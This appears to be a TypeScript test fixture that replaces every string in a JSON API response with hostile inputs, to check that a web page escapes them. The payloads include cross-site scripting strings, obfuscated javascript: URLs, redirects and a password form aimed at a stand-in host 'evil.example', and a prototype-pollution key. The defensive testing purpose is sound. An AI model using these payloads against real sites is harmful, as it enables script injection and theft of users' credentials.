/** Nobody's host: whoever asks it for something was led there by a poisoned value. */
export const EVIL_HOST = 'evil.example';

/** Stands in every payload that is a text, to be found again on the page. */
export const MARK = '毒';

/** What does something where a text is taken for markup, with what turns writing round and half an emoji. */
const MARKUP = [
  `${MARK}"'><script>alert('script')</script><img src=x onerror="alert('image')"><svg onload="alert('svg')">`,
  `<a href="javascript:alert('link')">x</a><iframe srcdoc="<script>alert(1)</script>"></iframe><base href="//${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/refresh"><form action="https://${EVIL_HOST}/form"><input name=password>`,
  `&lt;img src=x onerror=alert(2)&gt;%3Cscript%3Ealert(3)%3C/script%3E\${alert(4)}{{alert(5)}}\u202Etxt.exe\uD800`,
].join('');

/** What does something where a text is followed, however it is spelled. */
const ADDRESSES = [
  `javascript:alert('${MARK}')`,
  `\u0001 JavaScript\t:\nalert('${MARK}')`,
  `data:text/html,<script>alert('${MARK}')</script>`,
  `//${EVIL_HOST}/${MARK}`,
  `java%73cript:alert('${MARK}')`,
  `vbscript:msgbox("${MARK}")`,
  `\\\\${EVIL_HOST}\\${MARK}`,
  `blob:https://${EVIL_HOST}/${MARK}`,
  `javascript&colon;alert('${MARK}')`,
  `/\t/${EVIL_HOST}/${MARK}`,
];

const WRONG: readonly unknown[] = [null, 0, true, [], {}, [[MARKUP]], { toString: MARKUP }, -1.5, MARKUP.repeat(20)];

/** Ways to poison, by name: what stands in the place of texts, in turn. */
export const POISONS: Readonly<Record<string, readonly unknown[]>> = {
  markup: [MARKUP],
  addresses: ADDRESSES,
  'wrong types and lengths': WRONG,
};

/** Texts of every kind, for what is not an answer: a parameter of an address, a stored value. */
export const HOSTILE_TEXTS: readonly string[] = [MARKUP, ...ADDRESSES, JSON.stringify({ id: MARKUP }), '__proto__'];

/** Numbers, dates and single words, by which a program goes rather than a reader. */
const OF_A_PROGRAM = /^(?:[\w.:+-]{0,40}|\d{4}-\d\d-\d\d \d\d:\d\d:\d\d)$/;

export interface PoisonWishes {
  readonly payloads: readonly unknown[];
  /** Which of the payloads is the first. */
  readonly turn?: number;
  /** Only what is no word of a program is poisoned: with those gone, little of a page is left to be looked at. */
  readonly gently?: boolean;
}

/** The value with a payload in the place of every text in it, wherever it stands: nobody lists the fields. */
function poisoned(value: unknown, { payloads, turn = 0, gently = false }: PoisonWishes): unknown {
  let next = turn;
  const poison = (part: unknown): unknown => {
    if (typeof part === 'string') {
      if (gently && OF_A_PROGRAM.test(part)) return part;
      next += 1;
      return payloads[(next - 1) % payloads.length];
    }
    if (Array.isArray(part)) return part.map(poison);
    if (typeof part !== 'object' || part === null) return part;
    return Object.fromEntries(Object.entries(part).map(([field, inside]) => [field, poison(inside)]));
  };
  return poison(value);
}

/** An envelope of the API with everything poisoned that it says: its data, and the message of a refusal. */
export function poisonedEnvelope(text: string, wishes: PoisonWishes): string {
  const parsed: unknown = JSON.parse(text);
  return JSON.stringify(poisoned(parsed, wishes));
}
